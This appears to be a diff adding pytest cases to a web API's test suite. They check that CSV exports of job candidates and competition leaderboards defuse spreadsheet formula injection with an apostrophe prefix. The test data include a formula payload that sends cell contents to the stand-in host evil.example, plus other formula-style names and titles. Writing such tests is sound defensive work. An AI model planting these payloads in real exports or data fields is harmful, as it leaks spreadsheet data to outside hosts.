@@ -6,12 +6,17 @@ from __future__ import annotations
 import csv
 import io
 import json
+from collections.abc import Callable, Iterator
 from typing import Any
 
 import pytest
+from sqlalchemy.engine import Engine
+from sqlmodel import Session, col, select
 from starlette.testclient import TestClient
 
-from api.graphql.ids import encode_global_id
+from api.graphql.ids import decode_id_of, encode_global_id
+from api.models.cup import Entry
+from tests.api.conftest import APPLY_TO_JOB, EmployerAccount, TalentAccount
 
 RANK_CANDIDATES = """
 query($jobId: ID!, $first: Int!) {
@@ -205,3 +210,78 @@ def test_leaderboard_jsonl_by_another_method_matches_the_graphql_result(
     lines = [json.loads(line) for line in response.text.splitlines()]
     keys = ("rank", "entry", "aggregate", "rawMean", "judgesCounted", "methodUsed", "criterionMeans")
     assert [{k: line[k] for k in keys} for line in lines] == board
+
+
+# ------------------------------------------------------------------ formula injection (issue #13, L3)
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+
+
+def test_candidates_csv_neutralises_a_formula_in_a_name(
+    client: TestClient,
+    new_employer: Callable[[], EmployerAccount],
+    post_job: Callable[..., dict[str, Any]],
+    new_talent: Callable[..., TalentAccount],
+) -> None:
+    # given: a talent whose names a spreadsheet would run as formulas applies to a job
+    employer = new_employer()
+    job = post_job(employer, requiredSkills=["qPCR"])
+    talent = new_talent(nameZh=HYPERLINK, nameEn="@SUM(1+1)")
+    applied = talent.api.execute(APPLY_TO_JOB, {"jobId": job["id"]})["data"]["applyToJob"]
+    assert applied["userErrors"] == []
+
+    # when
+    response = _get(client, f"/exports/jobs/{job['id']}/candidates.csv", employer.api.token)
+
+    # then: the cells are text, starting with an apostrophe; numbers stay numbers
+    assert response.status_code == 200
+    rows = list(csv.DictReader(io.StringIO(response.text)))
+    (row,) = [r for r in rows if r["talentId"] == talent.talent_id]
+    assert (row["nameZh"], row["nameEn"]) == ("'" + HYPERLINK, "'@SUM(1+1)")
+    assert all(float(r["score"]) >= 0 and not r["rank"].startswith("'") for r in rows)
+    jsonl = _get(client, f"/exports/jobs/{job['id']}/candidates.jsonl", employer.api.token).text
+    assert HYPERLINK in [json.loads(line)["talent"]["nameZh"] for line in jsonl.splitlines()]
+
+
+@pytest.fixture
+def formula_titles(engine: Engine, demo_competition: dict[int, str]) -> Iterator[dict[str, str]]:
+    """Two entries of the closed 2024 preliminary titled as formulas (+, @, tab), put back afterwards."""
+    titles = ["+86 1234 电池", "@risk 储能", "\t-1 碳化硅"]
+    with Session(engine) as session:
+        entries = list(
+            session.exec(
+                select(Entry).where(Entry.competition_id == decode_id_of(demo_competition[2], "Competition"))
+                .order_by(col(Entry.id)).limit(len(titles))
+            )
+        )  # fmt: skip
+        before = {e.id: e.title for e in entries}
+        for entry, title in zip(entries, titles, strict=True):
+            entry.title = title
+            session.add(entry)
+        session.commit()
+        yield {encode_global_id("Entry", e.id): t for e, t in zip(entries, titles, strict=True) if e.id}
+        for entry in entries:
+            entry.title = before[entry.id]
+            session.add(entry)
+        session.commit()
+
+
+def test_leaderboard_csv_neutralises_formula_titles(
+    client: TestClient, judge_api_client: Any, demo_competition: dict[int, str], formula_titles: dict[str, str]
+) -> None:
+    # when
+    path = f"/exports/competitions/{demo_competition[2]}/leaderboard"
+    response = _get(client, f"{path}.csv?round=preliminary", judge_api_client.token)
+
+    # then
+    assert response.status_code == 200
+    rows = {r["entryId"]: r for r in csv.DictReader(io.StringIO(response.text))}
+    assert {i: rows[i]["title"] for i in formula_titles} == {i: "'" + t for i, t in formula_titles.items()}
+    assert all(not r["aggregate"].startswith("'") and float(r["aggregate"]) for r in rows.values())
+    lines = [
+        json.loads(line)
+        for line in _get(client, f"{path}.jsonl?round=preliminary", judge_api_client.token).text.splitlines()
+    ]
+    assert {
+        line["entry"]["id"]: line["entry"]["title"] for line in lines if line["entry"]["id"] in formula_titles
+    } == formula_titles
